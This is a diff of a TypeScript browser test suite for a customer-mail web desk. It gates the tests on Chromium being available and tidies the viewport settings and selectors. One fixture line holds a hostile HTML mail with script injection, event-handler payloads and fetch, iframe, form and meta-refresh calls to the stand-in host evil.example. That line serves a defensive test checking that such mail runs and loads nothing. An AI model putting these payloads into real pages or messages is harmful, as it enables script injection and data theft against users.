@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { MessageId } from '../../src/core/ids.js';
 import { startChromium, type Chromium, type PageOptions } from '../support/chromium.js';
 import { mailFrom } from '../support/desk-under-test.js';
+import { available } from '../support/servers.js';
 import { DEMO_TOKEN, openWebDesk, type WebDesk } from './web-desk.js';
 import type { Letter } from '../../src/web/customer-mailbox.js';
 
@@ -25,6 +26,7 @@ let chromium: Chromium;
 let base = '';
 
 beforeAll(async () => {
+  if (!available('chromium')) return;
   desk = await openWebDesk({}, { list: async () => [EVE], letters: async () => [letter, { ...letter, id: 'two', direction: 'out', at: new Date('2026-11-20T11:00:00Z') }], answer: async () => {}, write: async () => {} });
   const { under } = desk;
   const html = '<h1 onclick="document.title=\'pwned\'">Hi</h1><script>fetch("https://evil.example/stolen")</script><img src="https://evil.example/pixel.gif" onerror="parent.document.title=\'pwned\'"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><input name="x"></form><style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/css2"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><a href="javascript:alert(1)">click</a><svg onload="alert(1)"></svg>';
@@ -57,13 +59,20 @@ afterAll(async () => {
 
 async function open(options: PageOptions = {}): Promise<Page> {
   const page = await chromium.openPage({ baseURL: base, ...options });
+  page.setDefaultTimeout(10_000);
   await page.goto(`/demo/login?token=${DEMO_TOKEN}`);
   return page;
 }
 
+const LOOKS = [
+  { width: 1280, colorScheme: 'light' },
+  { width: 1280, colorScheme: 'dark' },
+  { width: 375, colorScheme: 'light', mobile: true },
+  { width: 375, colorScheme: 'dark', mobile: true },
+] as const;
 const PAGES = ['/', '/c/1', '/c/2', '/c/1?template=hello', '/find?q=cup', '/view/closed', '/quarantine', '/settings', '/channels', '/more', '/customer', '/customer/eve%40customer.example', '/no-such-page', '/login?lang=pl'];
 
-describe.each([{ width: 1280, colorScheme: 'light' }, { width: 1280, colorScheme: 'dark' }, { width: 375, colorScheme: 'light', mobile: true }, { width: 375, colorScheme: 'dark', mobile: true }] as const)('at $width px, $colorScheme', (look) => {
+describe.runIf(available('chromium')).each(LOOKS)('at $width px, $colorScheme', (look) => {
   it('every page passes axe and scrolls only up and down', { timeout: 120_000 }, async () => {
     const page = await open(look);
     const wrong: string[] = [];
@@ -101,7 +110,7 @@ async function* opening(page: Page, path: string): AsyncGenerator<string> {
   }
 }
 
-describe('a hostile mail', () => {
+describe.runIf(available('chromium'))('a hostile mail', () => {
   it('runs nothing, loads nothing and asks nobody, also when its pictures are wanted', async () => {
     const page = await open();
     const asked: string[] = [];
@@ -123,7 +132,7 @@ describe('a hostile mail', () => {
   });
 });
 
-describe('the page of an agent', () => {
+describe.runIf(available('chromium'))('the page of an agent', () => {
   it('keeps what is being written through a reload, each box by itself', async () => {
     const page = await open();
     await page.goto('/c/1');
@@ -153,7 +162,7 @@ describe('the page of an agent', () => {
     await page.getByText('PS: the saucer too.').first().waitFor();
     expect(await page.getAttribute('#send-answer', 'aria-disabled')).toBe('true');
     expect(await page.inputValue('#text')).toBe('Nearly done');
-    await page.click('text=Read it');
+    await page.getByRole('link', { name: 'Read it' }).click();
     expect(await page.evaluate('document.activeElement.id')).toBe('new');
     await page.click('#send-anyway');
     await page.locator('#undo .undo').first().waitFor();
@@ -214,7 +223,7 @@ describe('the page of an agent', () => {
   });
 });
 
-describe('on a phone', () => {
+describe.runIf(available('chromium'))('on a phone', () => {
   it('the list and the conversation are pages of their own, and the composer is two buttons until it is touched', async () => {
     const page = await open({ width: 375, height: 812, mobile: true });
     await page.goto('/');
